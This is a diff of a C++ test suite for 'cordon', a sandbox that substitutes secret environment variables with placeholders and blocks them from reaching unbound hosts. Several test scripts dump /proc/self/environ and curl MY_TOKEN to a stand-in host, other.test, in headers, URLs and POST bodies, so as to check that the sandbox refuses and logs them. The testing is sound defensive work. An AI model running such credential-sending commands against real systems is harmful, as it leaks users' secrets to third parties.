@@ -43,17 +43,22 @@ class CredentialRun : public ::testing::Test {
   }
   std::string policy(const std::string& credentials) {
     std::string p = files_ / "policy.json";
-    write_text(p, R"({"version": 1, "network": {"allow": ["api.test:)" + port() +
-                      R"(", "other.test:)" + port() +
-                      R"("], "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1"},
-                      "credentials": )" +
-                      credentials + "}}");
+    const std::string http = std::to_string(up_->port("http"));
+    write_text(
+        p,
+        R"({"version": 1, "network": {"allow": ["api.test:)" + port() + R"(", "other.test:)" +
+            port() + R"(", "api.test:)" + http + R"(", "other.test:)" + http +
+            R"("], "inspect": ["other.test"], "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1"},
+                      )" +
+            "\"credentials\": " + (credentials.empty() ? "[]" : credentials) + "}}");
     return p;
   }
-  RunResult sh(const std::string& policy_file, const std::string& script) {
+  RunResult sh(const std::string& policy_file, const std::string& script,
+               std::vector<std::string> flags = {}) {
     RunSpec spec;
     spec.deadline = std::chrono::seconds(90);
-    return f_.sh(script, {"--policy", policy_file}, spec);
+    flags.insert(flags.begin(), {"--policy", policy_file});
+    return f_.sh(script, flags, spec);
   }
   std::string cordon_out(const std::vector<std::string>& args) {
     RunSpec spec;
@@ -127,7 +132,7 @@ TEST_F(CredentialRun, BoundHostGetsTheValueAndTheSandboxOnlyThePlaceholder) {
   auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]},
                       {"env": "MY_KEY", "hosts": ["api.test"], "header": "X-Api-Key: {}"}])");
   auto r = sh(p,
-              "printenv MY_TOKEN MY_KEY; tr '\\0' '\\n' </proc/self/environ | grep "
+              "printenv MY_TOKEN MY_KEY; cat /proc/self/environ | tr '\\0' '\\n' | grep "
               "'^MY_TOKEN=' | cut -d= -f2; curl -sS -H \"Authorization: token $MY_TOKEN\" \"" +
                   url("api.test", "/hello.txt") + "?t=$MY_TOKEN\"");
   ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
@@ -177,10 +182,120 @@ TEST_F(CredentialRun, PlaceholderToAnUnboundHostIsRefusedInHeaderAndUrl) {
   EXPECT_EQ(exfil[0].value("name", ""), "other.test");
   EXPECT_EQ(exfil[0].value("channel", ""), "header authorization");
   EXPECT_EQ(exfil[1].value("channel", ""), "url");
+  // The shim's join names the program that sent each one.
+  auto joined = events("net.attribution");
+  size_t by_curl = 0;
+  for (const auto& a : joined) {
+    if (a.value("of", "") == "net.exfil" && a.value("credential", "") == "MY_TOKEN" &&
+        a.value("exe", "").ends_with("/curl") && a.contains("pid")) {
+      ++by_curl;
+    }
+  }
+  EXPECT_EQ(by_curl, 2u) << cordon_out({"log", "last", "--json"});
   auto net = cordon_out({"log", "last", "--net"});
-  EXPECT_THAT(net, HasSubstr("net.exfil"));
-  EXPECT_THAT(net, HasSubstr("MY_TOKEN"));
+  EXPECT_THAT(net, HasSubstr("other.test:" + port() +
+                             "  net.exfil: the placeholder of MY_TOKEN in its header "
+                             "authorization  [network.credentials]  by curl (pid "));
+  EXPECT_THAT(net, HasSubstr("net.exfil: the placeholder of MY_TOKEN in its url"));
   EXPECT_THAT(net + cordon_out({"log", "last", "--json"}), Not(HasSubstr(kToken)));
+}
+
+TEST_F(CredentialRun, BodyToTheBoundHostCarriesTheValueAndToAnotherHostIsRefused) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  auto r = sh(p,
+              "printenv MY_TOKEN; curl -sS -H 'Content-Type: application/json' -d "
+              "\"{\\\"token\\\": \\\"$MY_TOKEN\\\"}\" " +
+                  url("api.test", "/post") +
+                  "; curl -sS -w ' %{http_code}\\n' -d \"{\\\"token\\\": \\\"$MY_TOKEN\\\"}\" " +
+                  url("other.test", "/post") + "; curl -sS -d 'x=control' " +
+                  url("other.test", "/post"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  expect_same_shape(placeholder, kToken, 4);
+  EXPECT_EQ(r.out, placeholder +
+                       "\ngot 53 bytes\n"
+                       "cordon: POST to other.test refused: its body carries the placeholder of "
+                       "credential MY_TOKEN, which goes only to api.test (network.credentials)\n "
+                       "403\ngot 9 bytes\n")
+      << r.err;
+  const std::string seen = reqlog();
+  EXPECT_THAT(seen, HasSubstr(std::string("body: {\"token\": \"") + kToken + "\"}\n"));
+  EXPECT_THAT(seen, HasSubstr("body: x=control\n"));
+  EXPECT_THAT(seen, Not(HasSubstr(placeholder)));
+  // Only the bound host's POST and the control reached the upstream.
+  size_t posts = 0;
+  for (size_t at = seen.find("POST /post"); at != std::string::npos;
+       at = seen.find("POST /post", at + 1)) {
+    ++posts;
+  }
+  EXPECT_EQ(posts, 2u) << seen;
+  auto exfil = events("net.exfil");
+  ASSERT_EQ(exfil.size(), 1u);
+  EXPECT_EQ(exfil[0].value("channel", ""), "body");
+  EXPECT_EQ(exfil[0].value("name", ""), "other.test");
+  EXPECT_EQ(state_files_with(kToken), std::vector<std::string>{});
+}
+
+TEST_F(CredentialRun, PlainHttpIsTreatedAlike) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  auto at = [&](const std::string& host, const std::string& path) {
+    return "http://" + host + ":" + std::to_string(up_->port("http")) + path;
+  };
+  auto r =
+      sh(p, "curl -sS -H \"Authorization: token $MY_TOKEN\" \"" + at("api.test", "/hello.txt") +
+                "?t=$MY_TOKEN\"; curl -sS --noproxy '*' -w ' %{http_code}\\n' -d \"t=$MY_TOKEN\" " +
+                at("other.test", "/post"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  EXPECT_EQ(r.out,
+            "hello through cordon\n"
+            "cordon: POST to other.test refused: its body carries the placeholder of credential "
+            "MY_TOKEN, which goes only to api.test (network.credentials)\n 403\n")
+      << r.err;
+  const std::string seen = reqlog();
+  EXPECT_THAT(seen, HasSubstr(std::string("GET /hello.txt?t=") + kToken + " HTTP/1.1\n"));
+  EXPECT_THAT(seen, HasSubstr(std::string("Authorization: token ") + kToken + "\n"));
+  EXPECT_THAT(seen, Not(HasSubstr("POST")));
+  auto exfil = events("net.exfil");
+  ASSERT_EQ(exfil.size(), 1u);
+  EXPECT_EQ(exfil[0].value("channel", ""), "body");
+  EXPECT_EQ(exfil[0].value("mode", ""), "transparent");
+}
+
+TEST_F(CredentialRun, TheCredentialFlagBindsAVariableToHosts) {
+  auto p = policy("");
+  auto r = sh(p,
+              "printenv MY_TOKEN; curl -sS -H \"Authorization: token $MY_TOKEN\" " +
+                  url("api.test", "/hello.txt") + "; curl -sS -w ' %{http_code}\\n' \"" +
+                  url("other.test", "/hello.txt") + "?q=$MY_TOKEN\"",
+              {"--credential", "MY_TOKEN=api.test,api2.test", "--allow-host", "api2.test"});
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  std::istringstream lines(r.out);
+  std::string token, body, refused;
+  std::getline(lines, token);
+  std::getline(lines, body);
+  std::getline(lines, refused);
+  expect_same_shape(token, kToken, 4);
+  EXPECT_EQ(body, "hello through cordon");
+  EXPECT_THAT(refused, HasSubstr("credential MY_TOKEN, which goes only to api.test, api2.test"));
+  EXPECT_THAT(reqlog(), HasSubstr(std::string("Authorization: token ") + kToken + "\n"));
+  EXPECT_THAT(reqlog(), Not(HasSubstr(token)));
+  const auto named = state_files_with("\"MY_TOKEN\"");  // the name is recorded, not the value
+  EXPECT_TRUE(std::any_of(named.begin(), named.end(),
+                          [](const std::string& f) { return f.ends_with("/policy.json"); }));
+
+  for (const auto& [flag, error] : std::vector<std::pair<std::string, std::string>>{
+           {"MY_TOKEN", "cordon: --credential: \"MY_TOKEN\" is not NAME=HOST[,HOST...]"},
+           {"=api.test", "cordon: --credential: \"=api.test\" is not NAME=HOST[,HOST...]"},
+           {"MY_TOKEN=elsewhere.test",
+            "cordon: --credential: network.credentials[0].hosts[0]: \"elsewhere.test\" is not "
+            "allowed by network.allow"},
+           {"UNSET_TOKEN_X=api.test",
+            "network.credentials[0].env: UNSET_TOKEN_X is not set in cordon's environment"}}) {
+    auto bad = sh(p, "echo ran", {"--credential", flag});
+    EXPECT_EQ(bad.exit_code(), 125) << flag;
+    EXPECT_THAT(bad.err, HasSubstr(error)) << flag;
+    EXPECT_THAT(bad.out, Not(HasSubstr("ran")));
+  }
 }
 
 TEST_F(CredentialRun, BadCredentialsAreErrorsNamingTheField) {
